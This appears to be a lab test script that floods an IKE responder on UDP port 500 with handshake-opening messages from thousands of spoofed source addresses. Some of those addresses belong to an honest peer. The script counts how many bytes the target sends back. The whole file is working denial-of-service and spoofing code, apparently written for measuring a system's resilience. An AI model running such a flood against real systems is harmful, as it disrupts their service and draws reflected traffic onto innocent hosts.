"""Sends first messages from many addresses, and counts on the wire what answers them.

    python flood.py '{"mac": ..., "seconds": ..., ...}'     in the attacker's namespace

Its own program, so that nothing else decides when it sends. Prints what it counted as JSON.
"""

import json
import os
import socket
import struct
import sys
import time
from dataclasses import asdict, dataclass

from cable import HEADERS, End, destination, length, udp

# One transform: AES-128, SHA2-256, pre-shared key, group 14, 28800 s.
_TRANSFORM = bytes.fromhex("00000028 01010000 80010007 800e0080 80020004 80030001 8004000e")
_TRANSFORM += bytes.fromhex("800b0001 000c0004 00007080")
_SA = struct.pack("!IIBBHBBBB", 1, 1, 0, 0, 8 + len(_TRANSFORM), 1, 1, 0, 1) + _TRANSFORM
MARK = b"flood"  # how its cookies begin
_TICK = 0.005


@dataclass
class Order:
    """What to send: `rate` a second from `sources` addresses of `network` on; every `named`-th is
    from `peer`, the address of an honest peer."""

    mac: str
    target: str
    peer: str
    seconds: float
    rate: int = 2000
    sources: int = 10_000
    named: int = 10_000
    network: str = "10.64.0.0"


@dataclass
class Count:
    """What passed, in bytes of IPv4 packets: the flood, and what its senders were answered."""

    sent: int = 0
    bytes_in: int = 0
    answers: int = 0
    bytes_out: int = 0
    largest: int = 0  # most bytes out at a time for one message in
    seconds: float = 0.0
    lost: int = 0  # frames that were not counted


def first_message() -> bytes:
    body = struct.pack("!BBH", 0, 0, 4 + len(_SA)) + _SA
    head = struct.pack("!8s8sBBBBII", bytes(8), bytes(8), 1, 0x10, 2, 0, 0, 28 + len(body))
    return head + body


class Flood:
    def __init__(self, order: Order) -> None:
        self.order = order
        self.end = End()
        self.count = Count()
        base = int.from_bytes(socket.inet_aton(order.network), "big")
        names = [socket.inet_ntoa((base + n).to_bytes(4, "big")) for n in range(order.sources)]
        names[order.named - 1 :: order.named] = [order.peer] * (order.sources // order.named)
        macs = bytes.fromhex(order.mac), self.end.mac
        message = first_message()
        self._frames = [
            bytearray(udp(macs, (name, 500), (order.target, 500), message)) for name in names
        ]
        self._peer = socket.inet_aton(order.peer)

    def run(self) -> Count:
        began = now = time.monotonic()
        while now - began < self.order.seconds:
            due = int((now - began) * self.order.rate) - self.count.sent
            for _ in range(due):
                self._send()
            self._look()
            time.sleep(_TICK)
            now = time.monotonic()
        self.count.seconds = now - began
        time.sleep(1)  # for the last answers
        self._look()
        self.count.lost = self.end.lost()
        return self.count

    def _send(self) -> None:
        count = self.count
        frame = self._frames[count.sent % len(self._frames)]
        frame[HEADERS : HEADERS + 8] = MARK + count.sent.to_bytes(3, "big")
        self.end.send(frame)
        count.sent += 1
        count.bytes_in += length(frame)

    def _look(self) -> None:
        for _, frame in self.end.frames():
            if destination(frame) == self._peer and frame[HEADERS : HEADERS + 5] != MARK:
                continue
            self.count.answers += 1
            self.count.bytes_out += length(frame)
            self.count.largest = max(self.count.largest, length(frame))


if __name__ == "__main__":
    os.nice(-5)  # it has to keep its rate, whoever else works
    print(json.dumps(asdict(Flood(Order(**json.loads(sys.argv[1]))).run())))
